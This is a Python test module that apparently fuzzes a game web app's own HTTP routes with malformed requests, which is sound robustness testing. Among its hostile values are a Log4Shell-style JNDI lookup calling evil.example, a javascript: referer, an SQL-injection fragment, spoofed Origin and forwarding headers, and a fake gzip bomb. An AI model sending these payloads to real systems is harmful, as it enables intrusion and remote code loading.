"""HTTP requests that no honest client sends: every route, with something or everything wrong."""

import json
from collections.abc import Callable, Sequence
from random import Random
from typing import Any, Final, NamedTuple
from urllib.parse import quote

from tests.hostile.every_route import filled, routes
from tests.hostile.strange_texts import CODES, NAMES, PATHS, TRAYS, some_bytes, some_text, some_value

_METHODS: Final = ("GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND")
_HANDS: Final = ("O2 K-B", "O2", "", "Z9", "O2 " * 15, "K_ K_ K_", "\u202eO2", "O2\0K-B", "O2;K-B")
_QUERY_NAMES: Final = ("code", "live_marks", "revision", "x", "")


class HostileRequest(NamedTuple):
    """A request that is HTTP, whatever it asks for: it has to be answered."""

    data: bytes
    is_head: bool


def bad_request(rng: Random, host: str, rooms: Sequence[str] = ()) -> HostileRequest:
    """A request in which something or everything is wrong."""
    method, path = rng.choice(routes())
    path = _filled(path, rng, rooms)
    if rng.random() < 0.15:
        path = "/" + rng.choice(("", "assets/", "docs/", "t/", "api/", "schema/")) + rng.choice(PATHS)
    path = quote(path, safe="/%?*:;@&=+$,~.\\|")
    if rng.random() < 0.3:
        path += "?" + _query(rng)
    if rng.random() < 0.2:
        method = rng.choice(_METHODS)
    headers, body = _headers(rng, host), b""
    if method in ("POST", "PUT", "PATCH", "DELETE") or rng.random() < 0.05:
        body = _body(path, rng)
        headers.append(f"Content-Type: {rng.choice(_TYPES)}")
        headers.append(f"Content-Length: {len(body)}")
    head = f"{method} {path} HTTP/1.1\r\n" + "\r\n".join(headers) + "\r\n\r\n"
    return HostileRequest(head.encode("latin-1", "replace") + body, method == "HEAD")


_TYPES: Final = ("application/json",) * 8 + (
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/msgpack",
    "*/*",
    "json",
    "application/json; charset=utf-16",
)


def _filled(path: str, rng: Random, rooms: Sequence[str]) -> str:
    names = (
        "ZZZZZZ",
        "D1JDGS",
        "o0o0o0",
        "nope",
        "",
        "a" * 300,
        "'; drop",
        "%00",
        "\u0661" * 6,
        some_text(rng),
        *rooms,
        *rooms,
    )
    games = ("0", "1", "-1", "2", "1000001", "9" * 40, "1.0", "one", "", "%31", "\u0661")
    days = ("2000-01-01", "2100-12-31", "2024-02-30", "today", "", "9" * 40, "0000-00-00", some_text(rng))
    values = {"room": names, "challenge": names, "run": names, "game": games, "puzzle": games, "day": days}
    return filled(path, {name: rng.choice(each) for name, each in values.items()} | {"path": rng.choice(PATHS)})


def _query(rng: Random) -> str:
    pairs = [
        f"{quote(rng.choice((*_QUERY_NAMES, some_text(rng))))}={quote(rng.choice((*CODES, *NAMES)))}"
        for _ in range(rng.choice((1, 2, 3, 200)))
    ]
    return rng.choice(("&".join(pairs)[:8_000], "a" * rng.randrange(8_000), "&&&===", "%zz=%", "code[]=1&code=2"))


def _headers(rng: Random, host: str) -> list[str]:
    """The headers of an honest client, some of them replaced."""
    headers = [f"Host: {host}"]
    if rng.random() < 0.6:
        headers.append(f"Cookie: {_cookie(rng)}")
    if rng.random() < 0.2:
        origins = (f"http://{host}", "null", "https://evil.example", f"http://{host}.evil.example", "://", "")
        headers.append(f"Origin: {rng.choice(origins)}")
    for _ in range(rng.choice((0, 0, 0, 1, 2, 50))):
        headers.append(rng.choice(_EXTRA_HEADERS))
    return headers


def _cookie(rng: Random) -> str:
    token = "".join(rng.choice("abcdefgh0123-_") for _ in range(rng.choice((0, 31, 32, 32, 32, 33, 200))))
    return rng.choice(
        (
            f"dimension={token}",
            f"dimension={token}; dimension={token[::-1]}",
            f"x={'y' * 4_000}; dimension={token}",
            ";;==;",
            "dimension",
            f'dimension="{token}"',
        )
    )


_EXTRA_HEADERS: Final = (
    "Accept: text/html",
    "Accept: */*;q=nonsense",
    "Accept-Encoding: gzip",
    "Accept-Encoding: br;q=2, gzip;q=-1",
    "If-None-Match: *",
    'If-None-Match: W/"x", "y"',
    "If-Modified-Since: yesterday",
    "Range: bytes=0-0,5-2,-1",
    "X-Forwarded-For: 1.2.3.4, nonsense, ::1",
    "X-Forwarded-Proto: javascript",
    "X-Forwarded-Host: evil.example",
    "Forwarded: for=_hidden;host=evil.example",
    "X-HTTP-Method-Override: DELETE",
    "X-Original-URL: /metrics",
    "Authorization: Basic !!!!",
    "Upgrade: h2c",
    "Connection: keep-alive, Host",
    "TE: trailers",
    "Content-Encoding: gzip",
    "Referer: javascript:alert(1)",
    "User-Agent: ${jndi:ldap://evil.example/x}",
    "X-Empty:",
    "X-Latin: \xe9\xff",
    "X-Long: " + "y" * 1_000,
)


def _body(path: str, rng: Random) -> bytes:
    if rng.random() < 0.4:
        return rng.choice(_NOT_JSON)(rng)
    value: Any = _plausible(path, rng)
    if isinstance(value, dict) and rng.random() < 0.6:
        value = {**value, rng.choice((*value, "extra", "")): some_value(rng)}
    return json.dumps(value, ensure_ascii=True).encode()


def _plausible(path: str, rng: Random) -> Any:
    """A body that the route roughly expects."""
    if path.endswith("/seats"):
        return {"name": rng.choice(NAMES)}
    if "/check" in path or "/solve" in path or "/explain" in path:
        return {"hand": rng.choice(_HANDS), "tray": rng.choice((None, *TRAYS))}
    if "/tables" in path:
        return {
            "settings": {"seats": rng.randint(0, 5), "seconds": rng.choice((0, 1, 15, 601))},
            "code": rng.choice((None, *CODES)),
        }
    return some_value(rng)


_NOT_JSON: Final[tuple[Callable[[Random], bytes], ...]] = (
    lambda _: b"",
    lambda _: b"nonsense",
    lambda rng: b"[" * rng.randrange(1, 10_000),
    lambda rng: b'{"settings":' * rng.randrange(1, 1_000),
    lambda rng: b'{"hand": "' + some_bytes(rng) + b'"}',
    lambda rng: b"1" * rng.randrange(1, 10_000),
    lambda rng: b"x" * rng.choice((16_383, 16_384, 16_385, 20_000)),
    lambda rng: some_bytes(rng, 500),
    lambda _: b"\xff\xfe{\x00}\x00",
    lambda _: b'{"name": "\\ud800"}',
    lambda _: b'{"a":1,"a":2}',
    lambda _: b"\x1f\x8b\x08\x00bomb",
)
